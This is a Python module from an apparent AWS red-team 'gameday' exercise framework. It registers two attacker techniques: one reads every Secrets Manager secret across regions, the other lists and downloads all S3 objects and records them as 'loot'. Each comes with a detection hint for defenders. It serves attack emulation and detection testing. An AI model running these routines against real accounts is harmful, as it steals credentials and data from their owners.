"""Credential access and exfiltration: secrets read, objects downloaded."""

from __future__ import annotations

from gameday.exercise.attacker.base import TECHNIQUES, AttackerContext, Technique
from gameday.scenario.model import S3Download, SecretsRetrieve


def _secrets(ctx: AttackerContext, params: SecretsRetrieve) -> None:
    taken: list[str] = []
    for region in params.regions or ctx.regions_in_use:
        listed = ctx.call("secretsmanager", "list_secrets", region=region)
        for secret in (listed or {}).get("SecretList", []):
            if ctx.call(
                "secretsmanager", "get_secret_value", region=region, SecretId=secret["ARN"]
            ):
                taken.append(secret["Name"])
    ctx.outcome.loot["secrets"] = taken


def _download(ctx: AttackerContext, params: S3Download) -> None:
    buckets = list(params.buckets)
    if not buckets:
        listed = ctx.call("s3", "list_buckets")
        buckets = [b["Name"] for b in (listed or {}).get("Buckets", [])]
    taken: list[str] = []
    for bucket in buckets:
        objects = ctx.call("s3", "list_objects_v2", Bucket=bucket)
        for item in (objects or {}).get("Contents", []):
            if ctx.call("s3", "get_object", Bucket=bucket, Key=item["Key"]):
                taken.append(f"s3://{bucket}/{item['Key']}")
    ctx.outcome.loot["objects"] = taken


TECHNIQUES.register(
    Technique(
        id="aws.credential-access.secretsmanager-retrieve",
        tactic="credential-access",
        title="Read every secret",
        description="Lists Secrets Manager secrets in each region and reads their values — "
        "database passwords and other services' keys, which must now be rotated too.",
        detection="GetSecretValue for many secrets in a short time by a principal that "
        "normally reads none.",
        detonate=_secrets,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.exfiltration.s3-download",
        tactic="exfiltration",
        title="Download S3 objects",
        description="Lists buckets and downloads their objects.",
        detection="GetObject bursts in S3 data events; ListBuckets from the leaked key.",
        detonate=_download,
    )
)
